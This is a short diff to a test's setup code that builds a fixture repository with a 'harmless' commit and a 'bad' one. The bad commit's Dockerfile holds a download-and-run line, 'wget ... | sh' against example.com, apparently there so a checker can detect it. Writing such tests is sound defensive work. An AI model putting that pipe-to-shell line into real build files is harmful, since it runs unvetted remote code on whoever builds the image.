@@ -25,7 +25,7 @@ before(() => {
   using made = Repository.create();
   const files = { Dockerfile: good, '.github/workflows/ci.yml': workflow, 'movie.bin': 'not on this machine' };
   first = made.commit('main', files);
-  harmless = made.commit('main', { 'README.md': '# Shop\n', Dockerfile: `# Edited\n${good}` });
+  harmless = made.commit('main', { 'README.md': '# Shop\n', 'movie.bin': 'another', Dockerfile: `# Edited\n${good}` });
   bad = made.commit('main', { Dockerfile: 'FROM alpine:3.22\nRUN wget -qO- http://example.com/x | sh\n' });
   const clone = join(folder, 'acme+shop/repo');
   execFileSync('git', ['clone', '--quiet', '--bare', made.folder, clone]);
